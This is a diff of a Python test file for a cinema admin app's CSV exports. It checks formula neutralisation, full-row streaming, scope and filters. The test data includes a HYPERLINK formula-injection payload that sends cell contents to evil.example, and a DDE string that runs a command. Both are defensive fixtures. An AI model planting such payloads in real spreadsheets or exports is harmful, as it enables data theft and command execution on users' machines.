@@ -1,5 +1,6 @@
 """CSV exports: every row the list selects (scope, search, filters, sort), however many, and no
 cell a spreadsheet would run as a formula (OWASP's CSV injection advice). SQLite and MariaDB."""
+
 import csv
 import datetime as dt
 import io
@@ -33,36 +34,47 @@ def admin(english, login_as):
 
 
 # -- formula injection ------------------------------------------------------------------------
-@pytest.mark.parametrize("value, cell", [
-    ("=1+1", "'=1+1"),
-    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
-    ("+1+1", "'+1+1"),
-    ("-1+1", "'-1+1"),
-    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
-    ("\t=1+1", "'\t=1+1"),
-    ("\r=1+1", "'\r=1+1"),
-    ("-", "'-"),
-    ("1+1", "1+1"),
-    ("影厅 =1+1", "影厅 =1+1"),
-    ("", ""),
-    (None, ""),
-    ("-12", "-12"),
-    ("45.00", "45.00"),
-    ("-0.50", "-0.50"),
-    (-3, "-3"),
-    (Decimal("-45.50"), "-45.50"),
-    (-1.5, "-1.5"),
-    (dt.datetime(2030, 1, 2, 10, 0), "2030-01-02 10:00:00"),
-])
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ("=1+1", "'=1+1"),
+        (
+            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        ),
+        ("+1+1", "'+1+1"),
+        ("-1+1", "'-1+1"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("-", "'-"),
+        ("1+1", "1+1"),
+        ("影厅 =1+1", "影厅 =1+1"),
+        ("", ""),
+        (None, ""),
+        ("-12", "-12"),
+        ("45.00", "45.00"),
+        ("-0.50", "-0.50"),
+        (-3, "-3"),
+        (Decimal("-45.50"), "-45.50"),
+        (-1.5, "-1.5"),
+        (dt.datetime(2030, 1, 2, 10, 0), "2030-01-02 10:00:00"),
+    ],
+)
 def test_safe_cell_prefixes_formulas_with_a_quote_and_keeps_numbers(value, cell):
     assert safe_cell(value) == cell
 
 
 def test_csv_lines_quote_every_field_so_separators_and_quotes_stay_inside_their_cell():
-    line = "".join(csv_lines([['a,=1+1', 'say "hi"', "x;=2+2", "two\nlines", 7]]))
+    line = "".join(csv_lines([["a,=1+1", 'say "hi"', "x;=2+2", "two\nlines", 7]]))
     assert line == '"a,=1+1","say ""hi""","x;=2+2","two\nlines","7"\r\n'
-    assert next(csv.reader(io.StringIO(line))) == ["a,=1+1", 'say "hi"', "x;=2+2", "two\nlines",
-                                                   "7"]
+    assert next(csv.reader(io.StringIO(line))) == [
+        "a,=1+1",
+        'say "hi"',
+        "x;=2+2",
+        "two\nlines",
+        "7",
+    ]
 
 
 def test_hall_and_movie_named_like_formulas_are_exported_neutralised(client, admin, make):
@@ -93,12 +105,22 @@ def test_every_export_neutralises_formulas(client, admin, make):
     cinema = make.cinema(name="=cmd|' /C calc'!A0", address="@address")
     make.schedule(hall=make.hall(cinema=cinema, name="+hall"), movie=make.movie(title="-movie"))
     make.user("auditor", username="=user")
-    for endpoint in ("movie", "city", "cinema", "hall", "schedule", "user", "role", "permission",
-                     "auditlog"):
+    for endpoint in (
+        "movie",
+        "city",
+        "cinema",
+        "hall",
+        "schedule",
+        "user",
+        "role",
+        "permission",
+        "auditlog",
+    ):
         rows = exported(client, f"/admin/{endpoint}/export/csv/")
         assert len(rows) >= 2, endpoint
-        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
-                       for row in rows for cell in row), endpoint
+        assert not any(
+            cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row
+        ), endpoint
 
 
 # -- every row, streamed ----------------------------------------------------------------------
@@ -111,12 +133,14 @@ def small_chunks(monkeypatch):
 
 
 def schedules(make, hall, count, start=dt.datetime(2030, 5, 1, 10, 0), **kw):
-    return [make.schedule(hall=hall, starts_at=start + dt.timedelta(days=n), **kw)
-            for n in range(count)]
+    return [
+        make.schedule(hall=hall, starts_at=start + dt.timedelta(days=n), **kw) for n in range(count)
+    ]
 
 
-def test_export_has_every_row_past_the_old_cap_in_the_lists_order(client, admin, make,
-                                                                  small_chunks):
+def test_export_has_every_row_past_the_old_cap_in_the_lists_order(
+    client, admin, make, small_chunks
+):
     hall = make.hall()
     shows = schedules(make, hall, 12)
     rows = exported(client, "/admin/schedule/export/csv/")
@@ -136,14 +160,20 @@ def test_export_follows_the_lists_sort(client, admin, make, small_chunks):
     assert [row[title] for row in rows[1:]] == sorted(titles)
 
 
-def test_export_respects_the_managers_scope_past_the_old_cap(client, english, login_as, make,
-                                                             small_chunks):
+def test_export_respects_the_managers_scope_past_the_old_cap(
+    client, english, login_as, make, small_chunks
+):
     mine, theirs = make.cinema(name="我的影城"), make.cinema(name="别人的影城")
     schedules(make, make.hall(cinema=mine), 8)
     schedules(make, make.hall(cinema=theirs), 7, start=dt.datetime(2030, 6, 1, 10, 0))
     # No default role exports with a cinema scope; a role an admin makes may.
-    exporter = Role(code="schedule_exporter", name="排期导出", permissions=db.session.query(
-        Permission).filter(Permission.code.in_(["schedule.view", "schedule.export"])).all())
+    exporter = Role(
+        code="schedule_exporter",
+        name="排期导出",
+        permissions=db.session.query(Permission)
+        .filter(Permission.code.in_(["schedule.view", "schedule.export"]))
+        .all(),
+    )
     db.session.add(exporter)
     db.session.commit()
     login_as(make.user("schedule_exporter", cinemas=[mine]))
@@ -152,8 +182,7 @@ def test_export_respects_the_managers_scope_past_the_old_cap(client, english, lo
     assert [row[cinema] for row in rows[1:]] == ["我的影城"] * 8
 
 
-def test_export_respects_search_and_filters_past_the_old_cap(client, admin, make,
-                                                             small_chunks):
+def test_export_respects_search_and_filters_past_the_old_cap(client, admin, make, small_chunks):
     hall = make.hall()
     wanted, other = make.movie(title="流浪地球"), make.movie(title="满江红")
     schedules(make, hall, 9, movie=wanted)
@@ -176,8 +205,9 @@ def filter_argument(html, column, operation):
     raise AssertionError(f"no {operation} filter on {column}: {data[column]}")
 
 
-def test_an_export_stopped_midway_frees_its_connection_for_the_next_requests(client, admin,
-                                                                            make, small_chunks):
+def test_an_export_stopped_midway_frees_its_connection_for_the_next_requests(
+    client, admin, make, small_chunks
+):
     schedules(make, make.hall(), 12)
     for _attempt in range(3):
         response = client.get("/admin/schedule/export/csv/", buffered=False)
